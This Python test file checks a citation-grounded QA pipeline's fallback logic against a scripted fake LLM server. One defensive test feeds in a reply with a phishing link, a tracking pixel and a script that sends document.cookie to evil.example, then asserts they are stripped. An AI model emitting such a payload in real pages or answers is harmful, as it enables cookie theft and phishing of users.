"""The LLM fault matrix, against a scripted server (tests/fake_llm.py): every unusable reply
falls back to the extractive answer with a reason; one deadline bounds the whole call; a
semaphore bounds the calls in flight; LLM sentences come out as plain text."""

import socket
import threading
import time

import pytest

from conftest import DEFAULT_CORPUS
from fake_llm import fake_llm
from recapqa.ingest import quote_in_source
from recapqa.models import Answer
from recapqa.pipeline import Assistant

QUESTION = "How many models does Uber run in production?"


def llm_assistant(assistant: Assistant, base_url: str, timeout: float = 5.0, **update: object) -> Assistant:
    settings = assistant.settings.model_copy(update={"llm_base_url": base_url, "llm_timeout": timeout, **update})
    return Assistant(assistant.index, settings)


def ask(assistant: Assistant, base_url: str, timeout: float = 5.0, question: str = QUESTION) -> Answer:
    answer, _ = llm_assistant(assistant, base_url, timeout).ask(question, mode="auto")
    return answer


@pytest.fixture(scope="module")
def extractive(assistant: Assistant) -> Answer:
    answer, _ = assistant.ask(QUESTION, mode="extractive")
    return answer


def assert_extractive_fallback(answer: Answer, reason: str, extractive: Answer) -> None:
    assert answer.mode == "extractive"
    assert answer.fallback_reason is not None and reason in answer.fallback_reason
    assert answer.answer == extractive.answer  # the user still gets the answer the notes give


def supported_claim(extractive: Answer) -> str:
    """A sentence source 1 supports: the extractive quote, reworded a little."""
    return f"Uber has {extractive.citations[0].quote.lower()}"


def test_server_down_falls_back(assistant: Assistant, extractive: Answer) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    assert_extractive_fallback(ask(assistant, f"http://127.0.0.1:{port}/v1"), "cannot reach", extractive)


def test_a_server_that_hangs_falls_back_at_the_deadline(assistant: Assistant, extractive: Answer) -> None:
    with fake_llm("Uber runs 5.3k models [1].", delay=10.0) as server:
        started = time.monotonic()
        answer = ask(assistant, server["base_url"], timeout=0.5)
    assert_extractive_fallback(answer, "did not answer within 0.5s", extractive)
    assert time.monotonic() - started < 5.0, "the server would have answered after 10 s"


@pytest.mark.parametrize("delay", [0.0, 0.6])
def test_a_trickling_server_falls_back_at_the_deadline(assistant: Assistant, extractive: Answer, delay: float) -> None:
    """One byte every 50 ms: each read succeeds, the whole reply would take over 15 s."""
    with fake_llm(supported_claim(extractive) + " [1].", delay=delay, trickle=0.05) as server:
        started = time.monotonic()
        answer = ask(assistant, server["base_url"], timeout=1.0)
    elapsed = time.monotonic() - started
    assert_extractive_fallback(answer, "did not answer within 1s", extractive)
    assert elapsed < 5.0, f"the deadline was 1 s, the question took {elapsed:.1f} s"


def test_a_slow_but_steady_reply_within_the_deadline_is_used(assistant: Assistant, extractive: Answer) -> None:
    with fake_llm(supported_claim(extractive) + " [1].", trickle=0.001) as server:
        answer = ask(assistant, server["base_url"], timeout=10.0)
    assert answer.mode == "llm" and answer.fallback_reason is None


@pytest.mark.parametrize(
    ("options", "reason"),
    [
        ({"content": ""}, "empty reply"),
        ({"content": "   \n"}, "empty reply"),
        ({"content": None}, "empty reply"),
        ({"message": None}, "null message"),
        ({"message": "a string"}, "not an object"),
        ({"message": {"role": "assistant", "content": ["a", "list"]}}, "content is not text"),
        ({"body": b"{not json"}, "not valid JSON"),
        ({"body": b"\xff\xfe\x00garbage"}, "not valid JSON"),
        ({"body": b"[1, 2, 3]"}, "not a JSON object"),
        ({"body": b'{"choices": []}'}, "no choices"),
        ({"body": b'{"error": {"message": "model not loaded"}}'}, "error object"),
        ({"body": b"data: {broken\n\n", "content_type": "text/event-stream"}, "malformed event stream"),
        ({"body": b"data: [DONE]\n\n", "content_type": "text/event-stream"}, "empty reply"),
        ({"content": "zxcv qwer asdf [1] lorem ipsum [2]."}, "no citation"),
        ({"content": "Uber has about 5.3k models in production."}, "no citation"),  # no marker at all
        ({"content": "Netflix invented the transformer in 1850 [1]."}, "no citation"),  # unsupported
        ({"content": "Uber runs 5.3k models in production [7]."}, "no citation"),  # source 7 does not exist
        ({"content": "whatever", "status": 500}, "HTTP 500"),
        ({"content": "whatever", "status": 404}, "HTTP 404"),
    ],
)
def test_unusable_replies_fall_back(
    assistant: Assistant, extractive: Answer, options: dict[str, object], reason: str
) -> None:
    with fake_llm(**options) as server:  # type: ignore[arg-type]
        answer = ask(assistant, server["base_url"])
    assert server["requests"], "the LLM was asked"
    assert_extractive_fallback(answer, reason, extractive)


def test_an_event_stream_reply_is_read(assistant: Assistant, extractive: Answer) -> None:
    words = (supported_claim(extractive) + " [1].").split(" ")
    events = [f'data: {{"choices": [{{"delta": {{"content": "{w} "}}}}]}}\n\n' for w in words]
    body = ("".join(events) + "data: [DONE]\n\n").encode()
    with fake_llm(body=body, content_type="text/event-stream") as server:
        answer = ask(assistant, server["base_url"])
    assert answer.mode == "llm", answer.fallback_reason


def test_supported_claims_are_kept_and_quote_the_notes(assistant: Assistant, extractive: Answer) -> None:
    reply = f"{supported_claim(extractive)} [1]. The moon is made of cheese [1]. Mars has {extractive.answer} [9]."
    with fake_llm(reply) as server:
        answer = ask(assistant, server["base_url"])
    prompt = server["requests"][0]["messages"][1]["content"]
    assert "[1] Journey of the AI platform at Uber (Min Cai)" in prompt
    assert answer.mode == "llm" and answer.fallback_reason is None
    assert "cheese" not in answer.answer and "Mars" not in answer.answer
    assert answer.answer.endswith("[1].")
    assert answer.llm_reply == reply
    assert [c.quote for c in answer.citations] == [extractive.citations[0].quote]
    for c in answer.citations:
        assert quote_in_source(DEFAULT_CORPUS, c.source, c.start_line, c.end_line, c.quote)


def test_a_leading_marker_keeps_the_right_sentence(assistant: Assistant, extractive: Answer) -> None:
    reply = f"[2] The moon is made of cheese.\n[1] {supported_claim(extractive)}."
    with fake_llm(reply) as server:
        answer = ask(assistant, server["base_url"])
    assert answer.mode == "llm" and "cheese" not in answer.answer
    assert extractive.citations[0].quote.lower() in answer.answer.lower()


def test_links_images_and_html_do_not_reach_the_user(assistant: Assistant, extractive: Answer) -> None:
    claim = supported_claim(extractive)
    reply = (
        f"{claim} [details](https://evil.example/phish) ![x](https://evil.example/pixel.png) "
        f"<script>fetch('https://evil.example/'+document.cookie)</script><a href='https://evil.example'>here</a> [1]."
    )
    with fake_llm(reply) as server:
        answer = ask(assistant, server["base_url"])
    assert answer.mode == "llm", answer.fallback_reason
    for bad in ("http", "evil", "<", ">", "](", "![", "script", "cookie"):
        assert bad not in answer.answer, (bad, answer.answer)
    assert claim.lower() in answer.answer.lower()


def test_llm_abstention_is_an_abstention(assistant: Assistant) -> None:
    with fake_llm("I cannot answer from these notes.") as server:
        answer = ask(assistant, server["base_url"], question="How many models does Netflix run?")
    assert answer.mode == "llm" and answer.abstained and answer.citations == []


def test_llm_calls_are_bounded_and_the_rest_get_the_extractive_answer_at_once(
    assistant: Assistant, extractive: Answer
) -> None:
    with fake_llm(supported_claim(extractive) + " [1].", delay=5.0) as server:
        llm = llm_assistant(assistant, server["base_url"], timeout=20.0, llm_max_concurrent=1)
        results: list[tuple[Answer, float]] = []

        def one() -> None:
            started = time.monotonic()
            answer, _ = llm.ask(QUESTION, mode="llm")
            results.append((answer, time.monotonic() - started))

        threads = [threading.Thread(target=one) for _ in range(3)]
        for t in threads:
            t.start()
            time.sleep(0.5)
        for t in threads:
            t.join()
    assert server["max_in_flight"] == 1
    modes = sorted(a.mode for a, _ in results)
    assert modes == ["extractive", "extractive", "llm"]
    for answer, elapsed in results:
        if answer.mode == "extractive":
            assert answer.fallback_reason and "busy" in answer.fallback_reason
            assert elapsed < 3.0, "a question over the limit does not wait for the LLM (5 s)"


def test_sources_fit_the_context_budget(assistant: Assistant) -> None:
    from recapqa.answer.prompt import build_messages, fit_sources
    from recapqa.tokens import count_tokens

    retrieval = assistant.retriever.retrieve(QUESTION, k=20)
    kept = fit_sources(retrieval.hits, QUESTION, budget=1200)
    assert 0 < len(kept) < 20
    total = sum(count_tokens(m["content"]) for m in build_messages(QUESTION, kept))
    assert total <= 1200


def test_auto_prefers_the_notes_answer_where_the_llm_is_not_clearly_supported(
    assistant: Assistant, extractive: Answer
) -> None:
    with fake_llm("I cannot answer from these notes.") as server:
        llm = llm_assistant(assistant, server["base_url"])
        auto, _ = llm.ask(QUESTION, mode="auto")
        forced, _ = llm.ask(QUESTION, mode="llm")
    assert forced.mode == "llm" and forced.abstained
    assert auto.answer == extractive.answer and auto.fallback_reason and "declined" in auto.fallback_reason
    assert auto.llm_reply == "I cannot answer from these notes."


def test_auto_keeps_an_llm_answer_that_agrees_with_the_notes_answer(assistant: Assistant, extractive: Answer) -> None:
    with fake_llm(supported_claim(extractive) + " [1].") as server:
        answer, _ = llm_assistant(assistant, server["base_url"]).ask(QUESTION, mode="auto")
    assert answer.mode == "llm" and answer.fallback_reason is None
    assert extractive.citations[0].quote in [c.quote for c in answer.citations]


def test_a_reply_far_over_max_tokens_is_refused_unchecked(assistant: Assistant, extractive: Answer) -> None:
    """A server that ignores max_tokens can send thousands of claims; checking each would hold
    an LLM slot for minutes. Such a reply is refused whole, and kept for --debug."""
    reply = " ".join(f"{supported_claim(extractive)} [1]." for _ in range(12))
    with fake_llm(reply) as server:
        llm = llm_assistant(assistant, server["base_url"], llm_max_tokens=32)
        answer, _ = llm.ask(QUESTION, mode="llm")
    assert_extractive_fallback(answer, "over 64 tokens, 2x the 32 asked for", extractive)
    assert answer.llm_reply == reply
    with fake_llm(f"{supported_claim(extractive)} [1].") as server:  # within the limit: used
        answer, _ = llm_assistant(assistant, server["base_url"], llm_max_tokens=32).ask(QUESTION, mode="llm")
    assert answer.mode == "llm", answer.fallback_reason


@pytest.mark.parametrize("base_url", ["notaurl", "http://[::1/v1", "http://127.0.0.1:port/v1"])
def test_a_malformed_base_url_falls_back_naming_the_setting(
    assistant: Assistant, extractive: Answer, base_url: str
) -> None:
    assert_extractive_fallback(ask(assistant, base_url), "RECAPQA_LLM_BASE_URL is not an http(s) URL", extractive)
